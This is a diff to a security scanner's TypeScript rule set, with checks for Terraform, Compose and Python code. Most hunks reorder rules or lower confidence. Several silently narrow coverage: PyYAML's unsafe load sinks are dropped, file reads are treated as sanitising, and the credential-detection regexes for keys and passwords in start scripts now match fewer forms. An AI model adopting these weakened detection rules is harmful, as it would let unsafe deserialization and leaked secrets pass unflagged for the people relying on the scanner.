@@ -2,7 +2,7 @@
 import type { RuleSet } from './rules/rule-data.ts';
 
 export const ruleSet: RuleSet = {
- "version": "a9ec6744effd",
+ "version": "5bb190e9106c",
  "rules": [
   {
    "id": "any-type",
@@ -4173,7 +4173,24 @@ export const ruleSet: RuleSet = {
       {
        "arg": 0,
        "keyword": "url",
-       "matches": "^(?:http|ftp)://(?!localhost|127[.]|0[.]0|10[.]|192[.]168[.]|169[.]254|[[]::1|[a-z0-9-]+(?:[:/]|$)|[a-z0-9.-]*[.](?:local|internal|test|example|invalid|svc))"
+       "matches": "^(?:http|ftp)://[a-z0-9]"
+      }
+     ],
+     "unless": [
+      {
+       "arg": 0,
+       "keyword": "url",
+       "matches": "^[a-z]{3,5}://(?:localhost|127[.]|0[.]0|10[.]|192[.]168[.]|169[.]254|[[]::1)"
+      },
+      {
+       "arg": 0,
+       "keyword": "url",
+       "matches": "^[a-z]{3,5}://[a-z0-9-]{1,60}(?:[:/]|$)"
+      },
+      {
+       "arg": 0,
+       "keyword": "url",
+       "matches": "[.](?:local|internal|test|example|invalid|svc)(?:[:/]|$)"
       }
      ],
      "severity": "low"
@@ -7226,7 +7243,18 @@ export const ruleSet: RuleSet = {
     ],
     "sinks": [
      "template"
-    ]
+    ],
+    "callers": {
+     "sinks": [
+      "template"
+     ],
+     "built": true,
+     "languages": [
+      "python"
+     ],
+     "severity": "medium",
+     "confidence": "medium"
+    }
    },
    "languages": [
     "typescript",
@@ -8039,6 +8067,9 @@ export const ruleSet: RuleSet = {
     "callers": {
      "sinks": [
       "deserialization"
+     ],
+     "sources": [
+      "local"
      ],
      "languages": [
       "python"
@@ -16655,10 +16686,6 @@ export const ruleSet: RuleSet = {
       "django.contrib.sessions.serializers.PickleSerializer().loads",
       "kombu.serialization.pickle_loads",
       "kombu.serialization.unpickle",
-      "yaml.unsafe_load",
-      "yaml.unsafe_load_all",
-      "yaml.UnsafeLoader",
-      "yaml.Loader",
       "numpy.lib.format.read_array"
      ],
      "args": [
@@ -16671,43 +16698,6 @@ export const ruleSet: RuleSet = {
       "buffer",
       "f",
       "filename"
-     ]
-    },
-    {
-     "class": "deserialization",
-     "call": [
-      "yaml.load",
-      "yaml.load_all",
-      "yaml.full_load",
-      "yaml.full_load_all",
-      "oyaml.load"
-     ],
-     "args": [
-      0
-     ],
-     "keywords": [
-      "stream"
-     ],
-     "where": [
-      {
-       "not": {
-        "any": [
-         {
-          "arg": 1,
-          "keyword": "Loader",
-          "name": [
-           "yaml.SafeLoader",
-           "yaml.CSafeLoader",
-           "yaml.BaseLoader",
-           "yaml.CBaseLoader",
-           "yaml.loader.SafeLoader",
-           "yaml.loader.BaseLoader",
-           "yaml.cyaml.CSafeLoader"
-          ]
-         }
-        ]
-       }
-      }
      ]
     },
     {
@@ -16756,6 +16746,23 @@ export const ruleSet: RuleSet = {
     }
    ],
    "propagators": [
+    {
+     "call": [
+      "open",
+      "io.open",
+      "builtins.open",
+      "gzip.open",
+      "bz2.open",
+      "lzma.open"
+     ],
+     "args": [
+      0
+     ],
+     "cleans": [
+      "all",
+      "-deserialization"
+     ]
+    },
     {
      "call": [
       "json.loads",
@@ -23337,32 +23344,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_route53_zone"
-     ],
-     "where": [
-      {
-       "path": "vpc[*]",
-       "absent": true
-      },
-      {
-       "none": {
-        "types": [
-         "aws_route53_query_log"
-        ],
-        "link": [
-         {
-          "other": "zone_id",
-          "by": "reference"
-         }
-        ]
-       }
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "azurerm_app_service",
       "azurerm_linux_web_app",
       "azurerm_windows_web_app"
@@ -23392,24 +23373,6 @@ export const ruleSet: RuleSet = {
        ]
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_app_service",
-      "azurerm_linux_web_app",
-      "azurerm_windows_web_app"
-     ],
-     "where": [
-      {
-       "path": [
-        "logs[*].failed_request_tracing",
-        "logs[*].failed_request_tracing_enabled"
-       ],
-       "is": false
-      }
-     ],
-     "severity": "info"
     },
     {
      "format": "terraform",
@@ -23460,19 +23423,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "google_storage_bucket"
-     ],
-     "where": [
-      {
-       "path": "logging[*]",
-       "absent": true
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_compute_backend_service",
       "google_compute_region_backend_service"
      ],
@@ -23483,6 +23433,66 @@ export const ruleSet: RuleSet = {
        "is": false
       }
      ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_route53_zone"
+     ],
+     "where": [
+      {
+       "path": "vpc[*]",
+       "absent": true
+      },
+      {
+       "none": {
+        "types": [
+         "aws_route53_query_log"
+        ],
+        "link": [
+         {
+          "other": "zone_id",
+          "by": "reference"
+         }
+        ]
+       }
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_app_service",
+      "azurerm_linux_web_app",
+      "azurerm_windows_web_app"
+     ],
+     "where": [
+      {
+       "path": [
+        "logs[*].failed_request_tracing",
+        "logs[*].failed_request_tracing_enabled"
+       ],
+       "is": false
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_storage_bucket"
+     ],
+     "where": [
+      {
+       "path": "logging[*]",
+       "absent": true
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -23502,7 +23512,8 @@ export const ruleSet: RuleSet = {
        }
       }
      ],
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -23690,7 +23701,7 @@ export const ruleSet: RuleSet = {
    "title": "API stage with a loose setting",
    "category": "security",
    "severity": "info",
-   "confidence": "high",
+   "confidence": "low",
    "cwe": [
     1188
    ],
@@ -23841,7 +23852,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} speaks HTTP/1.1 only.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -23856,7 +23868,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} speaks HTTP/1.1 only.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -23877,7 +23890,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} has no identity of its own, and needs passwords for other services.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -24284,6 +24298,20 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
+       "path": "enable_logging",
+       "is": false
+      }
+     ],
+     "message": "{name} is switched off.",
+     "severity": "high"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_cloudtrail"
+     ],
+     "where": [
+      {
        "path": "is_multi_region_trail",
        "default": false,
        "is": false
@@ -24321,20 +24349,6 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
-       "path": "enable_logging",
-       "is": false
-      }
-     ],
-     "message": "{name} is switched off.",
-     "severity": "high"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_cloudtrail"
-     ],
-     "where": [
-      {
        "path": "include_global_service_events",
        "is": false
       }
@@ -24347,40 +24361,10 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
-       "path": "cloud_watch_logs_group_arn",
-       "absent": true
-      }
-     ],
-     "message": "{name} sends nothing to CloudWatch Logs: nothing can raise an alarm on it.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_cloudtrail"
-     ],
-     "where": [
-      {
        "path": "event_selector[*].include_management_events",
        "is": false
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_cloudtrail"
-     ],
-     "where": [
-      {
-       "path": "event_selector[*].read_write_type",
-       "is": [
-        "ReadOnly",
-        "WriteOnly"
-       ]
-      }
-     ],
-     "severity": "low"
     },
     {
      "format": "terraform",
@@ -24406,46 +24390,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_eks_cluster"
-     ],
-     "where": [
-      {
-       "path": "enabled_cluster_log_types[*]",
-       "is": "audit"
-      },
-      {
-       "not": {
-        "path": "enabled_cluster_log_types[*]",
-        "is": "api"
-       }
-      }
-     ],
-     "message": "{name} leaves out a part of its control plane's log.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_eks_cluster"
-     ],
-     "where": [
-      {
-       "path": "enabled_cluster_log_types[*]",
-       "is": "audit"
-      },
-      {
-       "not": {
-        "path": "enabled_cluster_log_types[*]",
-        "is": "authenticator"
-       }
-      }
-     ],
-     "message": "{name} leaves out a part of its control plane's log.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_config_configuration_recorder"
      ],
      "where": [
@@ -24462,25 +24406,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_config_configuration_recorder"
-     ],
-     "where": [
-      {
-       "path": "recording_group[*].include_global_resource_types",
-       "default": false,
-       "is": false
-      },
-      {
-       "path": "recording_group[*].all_supported",
-       "default": true,
-       "is": true
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_config_configuration_recorder_status"
      ],
      "where": [
@@ -24493,23 +24418,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_config_configuration_aggregator"
-     ],
-     "where": [
-      {
-       "path": [
-        "account_aggregation_source[*].all_regions",
-        "organization_aggregation_source[*].all_regions"
-       ],
-       "default": false,
-       "is": false
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_guardduty_detector"
      ],
      "where": [
@@ -24518,58 +24426,6 @@ export const ruleSet: RuleSet = {
        "is": false
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_guardduty_organization_configuration"
-     ],
-     "where": [
-      {
-       "path": "auto_enable_organization_members",
-       "is": "NONE"
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_macie2_account"
-     ],
-     "where": [
-      {
-       "path": "status",
-       "is": "PAUSED"
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_monitor_log_profile"
-     ],
-     "where": [
-      {
-       "path": "retention_policy[*]",
-       "where": [
-        {
-         "any": [
-          {
-           "path": "enabled",
-           "is": false
-          },
-          {
-           "path": "days",
-           "below": 365
-          }
-         ]
-        }
-       ]
-      }
-     ],
-     "severity": "low"
     },
     {
      "format": "terraform",
@@ -24625,6 +24481,242 @@ export const ruleSet: RuleSet = {
        "is": false
       }
      ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_kubernetes_cluster"
+     ],
+     "where": [
+      {
+       "path": "addon_profile[*].oms_agent[*].enabled",
+       "is": false
+      }
+     ],
+     "message": "{name} sends its logs nowhere."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_security_center_subscription_pricing"
+     ],
+     "where": [
+      {
+       "path": "tier",
+       "is": "Free"
+      }
+     ],
+     "message": "{name} leaves Defender off for this kind of resource."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_mssql_server_security_alert_policy"
+     ],
+     "where": [
+      {
+       "path": "state",
+       "is": "Disabled"
+      }
+     ],
+     "message": "{name} leaves threat detection off."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_mssql_server_security_alert_policy"
+     ],
+     "where": [
+      {
+       "path": "disabled_alerts[*]",
+       "present": true
+      }
+     ],
+     "message": "{name} leaves kinds of attack out."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "logging_service",
+       "is": "none"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_project_iam_audit_config",
+      "google_organization_iam_audit_config",
+      "google_folder_iam_audit_config"
+     ],
+     "where": [
+      {
+       "path": "audit_log_config[*].exempted_members[*]",
+       "present": true
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_cloudtrail"
+     ],
+     "where": [
+      {
+       "path": "cloud_watch_logs_group_arn",
+       "absent": true
+      }
+     ],
+     "message": "{name} sends nothing to CloudWatch Logs: nothing can raise an alarm on it.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_cloudtrail"
+     ],
+     "where": [
+      {
+       "path": "event_selector[*].read_write_type",
+       "is": [
+        "ReadOnly",
+        "WriteOnly"
+       ]
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_eks_cluster"
+     ],
+     "where": [
+      {
+       "path": "enabled_cluster_log_types[*]",
+       "is": "audit"
+      },
+      {
+       "not": {
+        "path": "enabled_cluster_log_types[*]",
+        "is": "api"
+       }
+      }
+     ],
+     "message": "{name} leaves out a part of its control plane's log.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_eks_cluster"
+     ],
+     "where": [
+      {
+       "path": "enabled_cluster_log_types[*]",
+       "is": "audit"
+      },
+      {
+       "not": {
+        "path": "enabled_cluster_log_types[*]",
+        "is": "authenticator"
+       }
+      }
+     ],
+     "message": "{name} leaves out a part of its control plane's log.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_config_configuration_recorder"
+     ],
+     "where": [
+      {
+       "path": "recording_group[*].include_global_resource_types",
+       "default": false,
+       "is": false
+      },
+      {
+       "path": "recording_group[*].all_supported",
+       "default": true,
+       "is": true
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_config_configuration_aggregator"
+     ],
+     "where": [
+      {
+       "path": [
+        "account_aggregation_source[*].all_regions",
+        "organization_aggregation_source[*].all_regions"
+       ],
+       "default": false,
+       "is": false
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_guardduty_organization_configuration"
+     ],
+     "where": [
+      {
+       "path": "auto_enable_organization_members",
+       "is": "NONE"
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_macie2_account"
+     ],
+     "where": [
+      {
+       "path": "status",
+       "is": "PAUSED"
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_monitor_log_profile"
+     ],
+     "where": [
+      {
+       "path": "retention_policy[*]",
+       "where": [
+        {
+         "any": [
+          {
+           "path": "enabled",
+           "is": false
+          },
+          {
+           "path": "days",
+           "below": 365
+          }
+         ]
+        }
+       ]
+      }
+     ],
+     "severity": "low"
     },
     {
      "format": "terraform",
@@ -24753,32 +24845,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_kubernetes_cluster"
-     ],
-     "where": [
-      {
-       "path": "addon_profile[*].oms_agent[*].enabled",
-       "is": false
-      }
-     ],
-     "message": "{name} sends its logs nowhere."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_security_center_subscription_pricing"
-     ],
-     "where": [
-      {
-       "path": "tier",
-       "is": "Free"
-      }
-     ],
-     "message": "{name} leaves Defender off for this kind of resource."
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "azurerm_security_center_contact"
      ],
      "where": [
@@ -24807,20 +24873,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_security_center_contact"
-     ],
-     "where": [
-      {
-       "path": "phone",
-       "absent": true
-      }
-     ],
-     "message": "{name} names no telephone number.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "azurerm_security_center_auto_provisioning"
      ],
      "where": [
@@ -24830,32 +24882,6 @@ export const ruleSet: RuleSet = {
       }
      ],
      "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_mssql_server_security_alert_policy"
-     ],
-     "where": [
-      {
-       "path": "state",
-       "is": "Disabled"
-      }
-     ],
-     "message": "{name} leaves threat detection off."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_mssql_server_security_alert_policy"
-     ],
-     "where": [
-      {
-       "path": "disabled_alerts[*]",
-       "present": true
-      }
-     ],
-     "message": "{name} leaves kinds of attack out."
     },
     {
      "format": "terraform",
@@ -24894,37 +24920,11 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
-       "path": "logging_service",
-       "is": "none"
-      }
-     ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
        "path": "monitoring_service",
        "is": "none"
       }
      ],
      "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_project_iam_audit_config",
-      "google_organization_iam_audit_config",
-      "google_folder_iam_audit_config"
-     ],
-     "where": [
-      {
-       "path": "audit_log_config[*].exempted_members[*]",
-       "present": true
-      }
-     ]
     },
     {
      "format": "terraform",
@@ -25005,6 +25005,21 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} writes whole requests into the log, with what people entered.",
      "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_security_center_contact"
+     ],
+     "where": [
+      {
+       "path": "phone",
+       "absent": true
+      }
+     ],
+     "message": "{name} names no telephone number.",
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -25074,6 +25089,35 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "aws_redshift_cluster"
+     ],
+     "where": [
+      {
+       "path": "automated_snapshot_retention_period",
+       "is": 0
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_sql_database_instance"
+     ],
+     "where": [
+      {
+       "path": "settings[*].backup_configuration[*].enabled",
+       "default": false,
+       "is": false
+      },
+      {
+       "path": "master_instance_name",
+       "absent": true
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_db_instance"
      ],
      "where": [
@@ -25116,18 +25160,6 @@ export const ruleSet: RuleSet = {
       }
      ],
      "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_redshift_cluster"
-     ],
-     "where": [
-      {
-       "path": "automated_snapshot_retention_period",
-       "is": 0
-      }
-     ]
     },
     {
      "format": "terraform",
@@ -25223,24 +25255,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} deletes at once: no soft delete for blobs.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_sql_database_instance"
-     ],
-     "where": [
-      {
-       "path": "settings[*].backup_configuration[*].enabled",
-       "default": false,
-       "is": false
-      },
-      {
-       "path": "master_instance_name",
-       "absent": true
-      }
-     ]
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -25252,7 +25268,7 @@ export const ruleSet: RuleSet = {
    "title": "Bucket that still knows ACLs",
    "category": "security",
    "severity": "info",
-   "confidence": "high",
+   "confidence": "low",
    "cwe": [
     284
    ],
@@ -25380,20 +25396,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_s3_bucket"
-     ],
-     "where": [
-      {
-       "path": "versioning[*].mfa_delete",
-       "is": false
-      }
-     ],
-     "message": "{name} lets versions be deleted without a second factor.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_storage_bucket"
      ],
      "where": [
@@ -25407,6 +25409,21 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "aws_s3_bucket"
+     ],
+     "where": [
+      {
+       "path": "versioning[*].mfa_delete",
+       "is": false
+      }
+     ],
+     "message": "{name} lets versions be deleted without a second factor.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "azurerm_storage_account"
      ],
      "where": [
@@ -25415,7 +25432,8 @@ export const ruleSet: RuleSet = {
        "is": false
       }
      ],
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -25681,6 +25699,48 @@ export const ruleSet: RuleSet = {
    ],
    "languages": [
     "dockerfile"
+   ]
+  },
+  {
+   "id": "cgroup-parent",
+   "title": "Control group chosen",
+   "category": "security",
+   "severity": "low",
+   "confidence": "medium",
+   "cwe": [
+    250
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "isolation",
+    "CIS-Docker-5.25",
+    "KICS-4d9f44c6"
+   ],
+   "message": "`{name}` runs in a control group of its own choice.",
+   "why": "Limits of memory and time hold for a control group. In another one the container takes what belongs to others.",
+   "fix": "Leave `cgroup_parent` out.",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "where": [
+      {
+       "path": "cgroup_parent",
+       "present": true
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
    ]
   },
   {
@@ -26666,29 +26726,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_ssm_parameter"
-     ],
-     "where": [
-      {
-       "path": "type",
-       "is": "SecureString"
-      },
-      {
-       "path": "value",
-       "matches": "^.{6,}$"
-      },
-      {
-       "not": {
-        "path": "value",
-        "matches": "^$|^\\$|^<.*>$|^(?:x{3,}|\\*{3,}|change-?me|changeit|placeholder|dummy|example|null|none|todo|mock[-_]?\\w*|test|fake[-_]?\\w*|your[-_].*)$|^\\{\\{|^arn:|^/|ssm:|secretsmanager|vault:"
-       }
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_lambda_function"
      ],
      "where": [
@@ -26826,7 +26863,7 @@ export const ruleSet: RuleSet = {
         "user_data",
         "user_data_base64"
        ],
-       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s*=\\s*\\S{20}|-----BEGIN (?:[A-Z]+ )?PRIVATE KEY|(?:PASSWORD|SECRET|TOKEN|API_?KEY|passwd)\\w{0,20}=['\"]?[^\\s$'\"`]{6}"
+       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s=\\s\\S{20}|-----BEGIN [A-Z ]{0,20}PRIVATE KEY|(?:PASSWORD|SECRET|SECRET_ACCESS_KEY|TOKEN|API_?KEY|passwd)=['\"]?[^\\s$'\"`]{6}"
       }
      ],
      "message": "{name} holds a credential in its start script, which every program on the machine can read."
@@ -26844,7 +26881,7 @@ export const ruleSet: RuleSet = {
         "custom_data",
         "os_profile[*].custom_data"
        ],
-       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s*=\\s*\\S{20}|-----BEGIN (?:[A-Z]+ )?PRIVATE KEY|(?:PASSWORD|SECRET|TOKEN|API_?KEY|passwd)\\w{0,20}=['\"]?[^\\s$'\"`]{6}"
+       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s=\\s\\S{20}|-----BEGIN [A-Z ]{0,20}PRIVATE KEY|(?:PASSWORD|SECRET|SECRET_ACCESS_KEY|TOKEN|API_?KEY|passwd)=['\"]?[^\\s$'\"`]{6}"
       }
      ],
      "message": "{name} holds a credential in its start script, which every program on the machine can read."
@@ -26861,7 +26898,7 @@ export const ruleSet: RuleSet = {
         "metadata_startup_script",
         "metadata.startup-script"
        ],
-       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s*=\\s*\\S{20}|-----BEGIN (?:[A-Z]+ )?PRIVATE KEY|(?:PASSWORD|SECRET|TOKEN|API_?KEY|passwd)\\w{0,20}=['\"]?[^\\s$'\"`]{6}"
+       "source": "A(?:KIA|SIA)[A-Z0-9]{16}|aws_secret_access_key\\s=\\s\\S{20}|-----BEGIN [A-Z ]{0,20}PRIVATE KEY|(?:PASSWORD|SECRET|SECRET_ACCESS_KEY|TOKEN|API_?KEY|passwd)=['\"]?[^\\s$'\"`]{6}"
       }
      ],
      "message": "{name} holds a credential in its start script, which every program on the machine can read."
@@ -26892,6 +26929,29 @@ export const ruleSet: RuleSet = {
        "matches": "^.{8,}$"
       }
      ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_ssm_parameter"
+     ],
+     "where": [
+      {
+       "path": "type",
+       "is": "SecureString"
+      },
+      {
+       "path": "value",
+       "matches": "^.{6,}$"
+      },
+      {
+       "not": {
+        "path": "value",
+        "matches": "^$|^\\$|^<.*>$|^(?:x{3,}|\\*{3,}|change-?me|changeit|placeholder|dummy|example|null|none|todo|mock[-_]?\\w*|test|fake[-_]?\\w*|your[-_].*)$|^\\{\\{|^arn:|^/|ssm:|secretsmanager|vault:"
+       }
+      }
+     ],
+     "severity": "medium"
     }
    ],
    "languages": [
@@ -26933,6 +26993,87 @@ export const ruleSet: RuleSet = {
     "https://cwe.mitre.org/data/definitions/306.html"
    ],
    "match": [
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_msk_cluster"
+     ],
+     "where": [
+      {
+       "path": "client_authentication[*].unauthenticated",
+       "is": true
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_container_registry"
+     ],
+     "where": [
+      {
+       "path": "anonymous_pull_enabled",
+       "is": true
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_kubernetes_cluster"
+     ],
+     "where": [
+      {
+       "path": [
+        "role_based_access_control_enabled",
+        "role_based_access_control[*].enabled"
+       ],
+       "is": false
+      }
+     ],
+     "message": "{name} has no role-based access control: each user may do everything."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_redis_cache"
+     ],
+     "where": [
+      {
+       "path": [
+        "redis_configuration[*].authentication_enabled",
+        "redis_configuration[*].enable_authentication"
+       ],
+       "is": false
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "enable_legacy_abac",
+       "is": true
+      }
+     ],
+     "message": "{name} keeps the old attribute-based access control, which gives far more than roles do."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "master_auth[*].username",
+       "matches": "."
+      }
+     ],
+     "message": "{name} lets people sign in with one shared password."
+    },
     {
      "format": "terraform",
      "resource": [
@@ -26986,26 +27127,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_elasticache_replication_group"
-     ],
-     "where": [
-      {
-       "path": "transit_encryption_enabled",
-       "is": true
-      },
-      {
-       "path": [
-        "auth_token",
-        "user_group_ids"
-       ],
-       "absent": true
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_redis_instance"
      ],
      "where": [
@@ -27020,18 +27141,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_msk_cluster"
-     ],
-     "where": [
-      {
-       "path": "client_authentication[*].unauthenticated",
-       "is": true
-      }
-     ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_memorydb_cluster"
      ],
      "where": [
@@ -27041,73 +27150,6 @@ export const ruleSet: RuleSet = {
       }
      ],
      "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_appsync_graphql_api"
-     ],
-     "where": [
-      {
-       "path": "authentication_type",
-       "is": "API_KEY"
-      }
-     ],
-     "message": "{name} asks for one shared key, not for who is there.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_db_instance",
-      "aws_rds_cluster"
-     ],
-     "where": [
-      {
-       "path": "iam_database_authentication_enabled",
-       "default": false,
-       "is": false
-      },
-      {
-       "not": {
-        "path": "engine",
-        "matches": "^(?:oracle|sqlserver|db2|custom)"
-       }
-      }
-     ],
-     "message": "{name} knows passwords only, not identities of IAM.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_neptune_cluster"
-     ],
-     "where": [
-      {
-       "path": "iam_database_authentication_enabled",
-       "default": false,
-       "is": false
-      }
-     ],
-     "message": "{name} asks for no identity of IAM; in its network everybody may query it.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_opensearch_domain",
-      "aws_elasticsearch_domain"
-     ],
-     "where": [
-      {
-       "path": "advanced_security_options[*].enabled",
-       "default": false,
-       "is": false
-      }
-     ],
-     "message": "{name} has no fine-grained access control.",
-     "severity": "low"
     },
     {
      "format": "terraform",
@@ -27129,40 +27171,6 @@ export const ruleSet: RuleSet = {
       }
      ],
      "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_app_service",
-      "azurerm_function_app",
-      "azurerm_linux_web_app",
-      "azurerm_windows_web_app",
-      "azurerm_linux_function_app",
-      "azurerm_windows_function_app"
-     ],
-     "where": [
-      {
-       "path": [
-        "auth_settings[*]",
-        "auth_settings_v2[*]"
-       ],
-       "absent": true
-      }
-     ],
-     "message": "{name} leaves sign-in to the program: App Service authentication is off.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_container_registry"
-     ],
-     "where": [
-      {
-       "path": "anonymous_pull_enabled",
-       "is": true
-      }
-     ]
     },
     {
      "format": "terraform",
@@ -27218,18 +27226,81 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_kubernetes_cluster"
+      "google_container_cluster"
